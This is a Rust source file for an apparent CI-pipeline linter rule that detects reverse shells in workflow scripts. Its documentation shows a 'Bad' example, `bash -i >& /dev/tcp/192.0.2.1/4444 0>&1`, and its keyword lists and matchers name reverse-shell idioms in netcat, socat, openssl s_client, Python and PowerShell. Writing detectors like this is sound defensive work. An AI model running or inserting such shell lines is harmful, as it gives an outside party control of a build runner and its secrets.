use lockgate_evidence::{Finding, Span, rule};
use lockgate_pipelines::model::Run;
use lockgate_pipelines::shell::{Command, Effective, Script, Word};

use crate::context::Context;
use crate::facts::scripts::{Pipelines, is_interpreter, scripts};

rule! {
    /// # What it finds
    ///
    /// A script that hands a shell to someone on the network: an interactive shell on `/dev/tcp`, `nc -e`, a shell piped
    /// through `nc` or `openssl s_client`, `socat` with `EXEC`, or a one-line program that ties a socket to a shell. A mere
    /// test whether a port is open is none.
    ///
    /// # Why it matters
    ///
    /// Whoever answers has the runner, its token, every secret of the job, and on a runner of your own the network around
    /// it. Pull requests with such steps are how researchers took over self-hosted runners of PyTorch and TensorFlow in 2023.
    /// There is no honest reason in a pipeline, so the severity is critical; the confidence is high because the command does
    /// nothing else.
    ///
    /// # Bad
    ///
    /// ```yaml
    /// on: push
    /// jobs:
    ///   build:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1
    /// ```
    ///
    /// # Good
    ///
    /// ```yaml
    /// on: push
    /// jobs:
    ///   build:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: timeout 5 bash -c '</dev/tcp/localhost/5432'
    /// ```
    ///
    /// # How to fix
    ///
    /// Remove it. Find out who brought it in and whether it has run; if it has, treat the secrets of the job as known and
    /// set the runner up anew.
    ///
    /// # References
    ///
    /// - MITRE ATT&CK T1059
    Workload "workload/reverse-shell": "a shell is handed to someone on the network", Critical, High
}

const WORDS: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "nc ",
    "ncat",
    "netcat",
    "socat",
    "s_client",
    "socket",
    "Sockets.TCPClient",
    "telnet ",
];
const NETCATS: &[&str] = &["nc", "ncat", "netcat", "nc.traditional", "nc.openbsd"];

pub(super) fn check(cx: &Context<'_>, out: &mut Vec<Finding>) {
    for (run, script) in scripts(cx, WORDS) {
        let pipelines = Pipelines::new(script);
        for command in &script.commands {
            let Some(effective) = command.effective() else {
                continue;
            };
            let what = on_device(command, &effective)
                .or_else(|| netcat(&effective))
                .or_else(|| socat(&effective))
                .or_else(|| piped(script, &pipelines, command, &effective))
                .or_else(|| one_liner(&effective));
            out.extend(what.map(|what| finding(cx, run, command.span, what)));
        }
        powershell(cx, run, script, out);
    }
}

fn finding(cx: &Context<'_>, run: &Run, span: Span, what: &str) -> Finding {
    cx.finding(
        &RULE,
        run.script.locate(span),
        format!("{what}: whoever is at the other end commands this runner"),
    )
}

fn is_device(text: &str) -> bool {
    text.contains("/dev/tcp/") || text.contains("/dev/udp/")
}

/// `bash -i >& /dev/tcp/…`, also within the code of `bash -c`, and `exec 5<>/dev/tcp/…` with a shell on it.
fn on_device(command: &Command, effective: &Effective<'_>) -> Option<&'static str> {
    let interactive = effective
        .args
        .iter()
        .any(|word| is_interactive(&word.literal_prefix()));
    let tied = command
        .redirects
        .iter()
        .any(|redirect| is_device(&redirect.target.text));
    let code = effective
        .args
        .iter()
        .map(Word::literal_prefix)
        .any(|text| is_device(&text) && holds_shell(&text));
    let shell = is_interpreter(&effective.name);
    (shell && (interactive && tied || code)).then_some("a shell on `/dev/tcp`")
}

fn is_interactive(option: &str) -> bool {
    option.starts_with('-') && !option.starts_with("--") && option.contains('i')
}

fn holds_shell(text: &str) -> bool {
    ["sh -i", "sh <&", "sh 0<&", "0>&1"]
        .iter()
        .any(|part| text.contains(part))
}

/// `nc -e /bin/sh`: the program after the option decides, since the letters differ between netcats.
fn netcat(effective: &Effective<'_>) -> Option<&'static str> {
    if !NETCATS.contains(&effective.name.as_str()) {
        return None;
    }
    let words: Vec<String> = effective.args.iter().map(Word::literal_prefix).collect();
    let runs = words.windows(2).any(|pair| {
        let short =
            pair[0].starts_with('-') && !pair[0].starts_with("--") && pair[0].ends_with(['e', 'c']);
        (short || matches!(pair[0].as_str(), "--exec" | "--sh-exec")) && is_shell(&pair[1])
    });
    runs.then_some("`nc` with a shell")
}

fn is_shell(program: &str) -> bool {
    let first = program.split_whitespace().next().unwrap_or_default();
    let name = first
        .rsplit(['/', '\\'])
        .next()
        .unwrap_or_default()
        .trim_end_matches(".exe");
    name == "cmd" || is_interpreter(name)
}

fn socat(effective: &Effective<'_>) -> Option<&'static str> {
    let words: Vec<String> = effective
        .args
        .iter()
        .map(|word| word.literal_prefix().to_ascii_lowercase())
        .collect();
    let start = |parts: &[&str]| {
        words
            .iter()
            .any(|word| parts.iter().any(|part| word.starts_with(part)))
    };
    let shell = words.iter().any(|word| {
        let program = word
            .strip_prefix("exec:")
            .or_else(|| word.strip_prefix("system:"));
        program.is_some_and(|program| {
            is_shell(
                program
                    .trim_matches(['\'', '"'])
                    .split(',')
                    .next()
                    .unwrap_or_default(),
            )
        })
    });
    let net = start(&["tcp", "openssl", "udp", "ssl"]);
    (effective.name == "socat" && shell && net).then_some("`socat` with a shell")
}

/// `cat pipe | sh -i 2>&1 | nc host port > pipe`.
fn piped(
    script: &Script,
    pipelines: &Pipelines,
    command: &Command,
    effective: &Effective<'_>,
) -> Option<&'static str> {
    let interactive = effective
        .args
        .iter()
        .any(|word| is_interactive(&word.literal_prefix()));
    if !interactive || !is_interpreter(&effective.name) {
        return None;
    }
    let network = |at: usize| {
        let reader = script.commands[at].effective();
        reader.is_some_and(|reader| {
            let secure = reader.name == "openssl"
                && reader
                    .args
                    .iter()
                    .any(|word| word.literal_prefix() == "s_client");
            secure || reader.name == "telnet" || NETCATS.contains(&reader.name.as_str())
        })
    };
    pipelines
        .after(command)
        .into_iter()
        .any(network)
        .then_some("a shell piped to the network")
}

/// `python -c 'import socket,subprocess,os; …'` and the like in Perl, Ruby and PHP.
fn one_liner(effective: &Effective<'_>) -> Option<&'static str> {
    if !is_interpreter(&effective.name) {
        return None;
    }
    let ties = |text: String| {
        let lower = text.to_ascii_lowercase();
        let shell = ["/bin/sh", "/bin/bash", "sh -i", "cmd.exe", "pty.spawn"]
            .iter()
            .any(|part| lower.contains(part));
        let tie = ["dup2", "subprocess", "exec", "spawn", "open("]
            .iter()
            .any(|part| lower.contains(part));
        lower.contains("sock") && shell && tie
    };
    let found = effective.args.iter().map(Word::literal_prefix).any(ties);
    found.then_some("a program that ties a socket to a shell")
}

/// `TCPClient` is an expression and no command; what it reads is executed in the same script.
fn powershell(cx: &Context<'_>, run: &Run, script: &Script, out: &mut Vec<Finding>) {
    let text = script.text();
    let Some(at) = text.find("Sockets.TCPClient") else {
        return;
    };
    let lower = text.to_ascii_lowercase();
    if (lower.contains("iex") || lower.contains("invoke-expression")) && lower.contains("getstream")
    {
        out.push(finding(
            cx,
            run,
            Span::new(at, at + "Sockets.TCPClient".len()),
            "a `TCPClient` whose input is executed",
        ));
    }
}
